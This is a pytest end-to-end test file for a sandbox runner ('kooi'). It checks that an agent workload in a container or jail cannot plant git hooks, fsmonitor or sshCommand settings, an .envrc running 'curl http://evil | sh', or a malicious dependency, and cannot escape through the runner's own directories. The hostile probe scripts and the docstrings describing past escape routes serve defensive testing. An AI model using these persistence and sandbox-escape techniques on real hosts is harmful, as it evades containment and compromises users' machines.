"""The project cannot be turned against the host (run.guard), in a container and in a
jail: a workload that commits its work, writes a git hook and git's configuration,
drops an .envrc and changes a watched file. Its commit stays (objects and refs bound
in, the index and HEAD copied back); the hook and configuration writes land in the
throwaway git directory and never in the project; the .envrc is gone after it; the
result lists every refusal and the watched change."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from .test_run import host, kooi_run, project, wfdir, write_wf  # noqa: F401 - fixtures

SCRIPT = r"""
set -u
echo fixed > src/fixed.txt
git add -A && git commit -qm 'the agent fixed it' && echo COMMIT=ok || echo COMMIT=fail
{ printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-checkout; } 2>/dev/null && echo HOOK=ok || echo HOOK=fail
git config core.fsmonitor /tmp/evil.sh 2>/dev/null && echo CONFIG=ok || echo CONFIG=fail
printf '[core]\n\tsshCommand = /tmp/evil.sh\n' >> .git/config && grep -q evil .git/config && echo CONFIGW=ok
echo 'curl http://evil | sh' > .envrc && echo ENVRC=ok
echo 'evil-package==6.6.6' >> requirements.txt && echo WATCHED=ok
echo more > lib/more.txt && git -C lib add -A && git -C lib commit -qm 'lib work' && echo SUBCOMMIT=ok
git -C lib config core.fsmonitor /tmp/evil.sh && echo SUBCONFIG=ok
"""
GIT_ENV = {"GIT_AUTHOR_NAME": "agent", "GIT_AUTHOR_EMAIL": "agent@kooi.invalid", "GIT_COMMITTER_NAME": "agent",
           "GIT_COMMITTER_EMAIL": "agent@kooi.invalid",
           # The project belongs to another uid than the workload's: git's ownership check.
           "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*"}


def git(proj, *args: str, user: str) -> str:
    res = subprocess.run(["runuser", "-u", user, "--", "git", "-c", "safe.directory=*", "-C", str(proj), *args],
                         capture_output=True, text=True, check=True)
    return res.stdout


@pytest.mark.parametrize("mode", ["container", "jail"])
def test_protected_paths_survive_a_workload_and_watched_ones_are_listed(host, wfdir, project, mode):
    user = host["runner_user"]
    proj = project("python-example")
    (proj / "requirements.txt").write_text("")
    subprocess.run(["chown", f"{user}:{user}", str(proj / "requirements.txt")], check=True)
    git(proj, "init", "-q", user=user)
    # An initialised submodule (a `.git` file, its repository under .git/modules): until
    # now such a project failed every run before it started.
    git(proj, "init", "-q", "lib", user=user)
    git(proj / "lib", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "lib", user=user)
    git(proj, "submodule", "add", "-q", "./lib", "lib", user=user)
    git(proj, "submodule", "absorbgitdirs", user=user)
    git(proj, "add", "-A", user=user)
    git(proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "start", user=user)
    config = (proj / ".git/config").read_text()
    lib_config = (proj / ".git/modules/lib/config").read_text()
    wf = {"command": ["sh", "-c", SCRIPT], "environment": GIT_ENV, "timeout": 120}
    if mode == "jail":
        wf["mode"] = "jail"
    write_wf(wfdir, "guard-probe", wf)
    res, result = kooi_run("guard-probe", proj, wfdir)
    out = res.stdout
    assert res.returncode == 0, out[-3000:] + res.stderr
    assert "COMMIT=ok" in out and "ENVRC=ok" in out and "WATCHED=ok" in out, out[-3000:]
    # The hook and the configuration (git's own rename over it too) landed in the copy.
    assert "HOOK=ok" in out and "CONFIGW=ok" in out and "CONFIG=ok" in out, out[-3000:]
    assert "SUBCOMMIT=ok" in out and "SUBCONFIG=ok" in out, out[-3000:]
    assert "lib work" in git(proj / "lib", "log", "--format=%s", user=user)
    assert (proj / ".git/modules/lib/config").read_text() == lib_config
    # Its work stays, the index with it; what executes on the host later does not.
    assert "the agent fixed it" in git(proj, "log", "--format=%s", user=user)
    assert "fixed.txt" not in git(proj, "status", "--porcelain", user=user)
    assert not (proj / ".git/hooks/post-checkout").exists()
    assert (proj / ".git/config").read_text() == config
    assert not (proj / ".envrc").exists()
    guard = result["project_guard"]
    assert guard["refused"] == [{"path": ".git/config", "change": "modified", "how": "shadowed"},
                                {"path": ".git/hooks/post-checkout", "change": "created", "how": "shadowed"},
                                {"path": ".git/modules/lib/config", "change": "modified", "how": "shadowed"},
                                {"path": ".envrc", "change": "created", "how": "put back",
                                 "kept": f".kooi-removed/{result['run_id']}.tar"}], guard
    assert (proj / guard["refused"][3]["kept"]).is_file()  # the workload's version, aside, read by no tool
    assert guard["restored"] is True
    assert {"path": "requirements.txt", "change": "modified"} in guard["watched_changed"], guard
    assert "evil-package" in (proj / "requirements.txt").read_text()  # watched: kept, listed
    assert "project: refused a change to protected .envrc" in out
    assert "refused a change to protected .git/hooks/post-checkout (created); made in a throwaway copy" in out
    assert {"by": "project", "what": ".git/config (modified; made in a throwaway copy, never in the project)"} \
        in result["refused"], result["refused"]
    # The copies are gone with the run.
    assert not (Path(result["log"]).parents[1] / "shadows" / result["run_id"]).exists()


HIDE = r"""
set -u
mkdir -p hid/repo/.git.tmp && rmdir hid/repo/.git.tmp
git -C hid/repo init -q && git -C hid/repo config core.fsmonitor 'touch /tmp/kooi-e2e-hidden-fsmonitor; false'
printf 'x' > hid/.npmrc
chmod 0311 hid && echo HIDDEN=ok
"""


def test_a_directory_kooi_cannot_list_fails_the_run_instead_of_hiding_what_is_in_it(host, wfdir, project):
    """Eighth review (helper-13): a workload made a directory the runner may enter but
    not list (0311) and hid a nested repository with a core.fsmonitor command and a
    DEEP file in it; the walk skipped it and the result said nothing. What kooi cannot
    read fails the run (exit 126), naming the directory."""
    user = host["runner_user"]
    proj = project("python-example")
    git(proj, "init", "-q", user=user)
    write_wf(wfdir, "hide-probe", {"mode": "jail", "command": ["sh", "-c", HIDE], "timeout": 60})
    try:
        _hidden(proj, wfdir, user)
    finally:
        subprocess.run(["chmod", "0755", str(proj / "hid")], check=False)


def _hidden(proj: Path, wfdir: Path, user: str) -> None:
    res, result = kooi_run("hide-probe", proj, wfdir)
    assert "HIDDEN=ok" in res.stdout, res.stdout[-2000:] + res.stderr
    assert res.returncode == 126 and result["reason"] == "refused", result.get("message")
    guard = result["project_guard"]
    assert guard["restored"] is False and any("hid" in f and "cannot list" in f for f in guard["restore_failed"]), guard
    subprocess.run(["chmod", "0755", str(proj / "hid")], check=True)
    # A project that already holds such a directory is refused before anything runs.
    subprocess.run(["chmod", "0311", str(proj / "hid")], check=True)
    res, result = kooi_run("hide-probe", proj, wfdir)
    assert res.returncode == 126 and "cannot list" in result["message"] and "HIDDEN" not in res.stdout, result


PLACES = ["{home}/.config/kooi-e2e-place", "{home}/.local/share/kooi-e2e-place", "/run/user/{uid}/kooi-e2e-place",
          "/var/lib/kooi/runs/kooi-e2e-place", "{home}/.config", "{home}/bin"]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("mode", ["jail", "container"])
def test_the_runners_and_koois_own_places_are_no_project(host, wfdir, place, mode):
    """Fifteenth review (F1): kooi took any directory the runner owns as a project: the
    runner's ~/.config (a jail wrote git/config there: every git of the runner's ran its
    fsmonitor), its runtime directory (a jail reached the rootless engine's raw socket),
    kooi's own run state (results and guard records a jail forged). Refused before
    anything runs, for root and the runner."""
    user = host["runner_user"]
    path = Path(place.format(home=host["runner_home"], uid=host["runner_uid"]))
    made = not path.exists()
    (path / "kooi-e2e-place-written").unlink(missing_ok=True)
    if made:
        subprocess.run(["install", "-d", "-o", user, "-g", user, str(path)], check=True)
    wf = {"command": ["sh", "-c", "touch kooi-e2e-place-written"], "timeout": 60}
    wf.update({"mode": "jail"} if mode == "jail" else {"image": "runner"})
    write_wf(wfdir, "place-probe", wf)
    try:
        for who in (None, user):
            res, result = kooi_run("place-probe", path, wfdir, user=who)
            assert res.returncode == 126 and result["reason"] == "refused", (res.stdout + res.stderr)[-2000:]
            assert "not a place for a project" in result["message"], result["message"]
            assert not (path / "kooi-e2e-place-written").exists()
    finally:
        if made:
            subprocess.run(["rm", "-rf", str(path)], check=True)
